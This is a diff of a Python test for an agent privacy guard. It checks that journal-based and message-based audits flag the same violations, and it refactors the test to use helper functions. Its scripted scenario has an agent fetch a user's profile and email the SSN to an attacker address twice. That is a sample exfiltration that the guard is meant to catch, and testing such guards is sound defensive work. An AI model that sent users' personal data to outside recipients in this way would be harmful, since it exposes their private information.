@@ -11,9 +11,9 @@ call as edited, the call that ran. The journal's audit reports it.
 
 from __future__ import annotations
 
-from typing import Any
-
-from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from _audit_trace import audit_journal, journaled_agent
+from _turns import by_turn
+from langchain_core.messages import HumanMessage, ToolMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.types import Command
 from test_audit_messages_edit import CFG, POLICY, SSN
@@ -22,11 +22,9 @@ from benchmarks.privacy.world import ATTACKER, BOB, World
 from guards import (
     PrivacyFlow,
     audit_trace,
-    trace_from_journal,
     trace_from_messages,
 )
-from vfa import Agent, EffectJournal
-from vfa.testing import ScriptedModel
+from vfa import EffectJournal
 
 
 def test_messages_audit_sees_an_edit_of_a_call_replayed_after_another_calls_question() -> None:
@@ -34,18 +32,10 @@ def test_messages_audit_sees_an_edit_of_a_call_replayed_after_another_calls_ques
     journal = EffectJournal()
     flow = PrivacyFlow(POLICY, handles=False, journal=journal)
 
-    def rule(messages: list[Any]) -> Any:
-        turn = sum(isinstance(m, AIMessage) for m in messages)
-        if turn == 0:
-            return AIMessage("", tool_calls=[{"name": "get_profile", "args": {}, "id": "c1"}])
-        if turn == 1:
-            return AIMessage("", tool_calls=[
-                {"name": "send_email", "id": "c2", "args": {"to": [ATTACKER], "subject": "hi", "body": f"ssn {SSN}"}},
-                {"name": "send_email", "id": "c3", "args": {"to": [ATTACKER], "subject": "again", "body": f"{SSN}"}}])
-        return "done"
-
-    app = Agent(ScriptedModel(rule=rule), world.tools(), guards=[flow.guard()], flow=flow,
-                journal=journal).compile(checkpointer=InMemorySaver())
+    rule = by_turn(("get_profile", {}, "c1"), [
+        ("send_email", {"to": [ATTACKER], "subject": "hi", "body": f"ssn {SSN}"}, "c2"),
+        ("send_email", {"to": [ATTACKER], "subject": "again", "body": f"{SSN}"}, "c3")])
+    app = journaled_agent(rule, world.tools(), flow, journal, checkpointer=InMemorySaver())
     out = app.invoke({"messages": [HumanMessage("Mail my details.")]}, CFG)
     for _ in range(10):
         if "__interrupt__" not in out:
@@ -63,8 +53,7 @@ def test_messages_audit_sees_an_edit_of_a_call_replayed_after_another_calls_ques
     live = {(e.call_id, v["rule"], v["arg"]) for e in journal.entries("t") if e.kind == "escalated"
             for v in e.data["evidence"]["violations"]}
     assert ("c2", "confidentiality", "subject") in live, live
-    by_journal = audit_trace(trace_from_journal(journal, "t", messages=out["messages"]), World("").tools(),
-                             flow=PrivacyFlow(POLICY, handles=False), thread_id="t")
+    by_journal = audit_journal(journal, out["messages"], World("").tools(), PrivacyFlow(POLICY, handles=False))
     assert {(v.call_id, v.rule, v.arg) for v in by_journal} == live
     tm = next(m for m in out["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c2")
     by_messages = audit_trace(trace_from_messages(out["messages"]), World("").tools(), POLICY)
